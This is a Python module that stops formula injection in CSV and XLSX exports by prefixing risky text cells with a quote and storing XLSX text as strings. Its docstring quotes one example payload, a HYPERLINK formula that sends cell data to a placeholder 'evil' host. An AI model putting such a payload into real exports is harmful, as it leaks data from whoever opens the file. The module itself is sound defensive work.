"""The one way to write CSV and XLSX cells (issue 14): a spreadsheet never runs a cell as a formula.

A reason typed as `=HYPERLINK("http://evil/?"&A1, "click")` or `@SUM(...)` in a batch note, an audit
reason or an actor's name would run when an inspector opens the export. Every text cell that starts
with = + - @, a tab or a carriage return is written with a leading single quote (the spreadsheet
convention for "this is text"), and XLSX cells are stored as strings, never as formulas. Numbers,
dates and booleans stay typed values. Every export (batch events, journey log, audit trail, QC
reports) writes through `csv_text` / `csv_stream` / `xlsx_row`.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


def csv_text(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(safe_row(header))
    for row in rows:
        writer.writerow(safe_row(row))
    return out.getvalue()


def csv_stream(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """CSV in chunks (one per row) for long exports."""
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(safe_row(header))
    yield buf.getvalue()
    for row in rows:
        buf.seek(0)
        buf.truncate()
        writer.writerow(safe_row(row))
        yield buf.getvalue()


def xlsx_row(ws: Any, values: Iterable[Any]) -> None:
    """Append one row to an openpyxl worksheet; text cells are strings, never formulas."""
    ws.append(safe_row(values))
    for cell in ws[ws.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
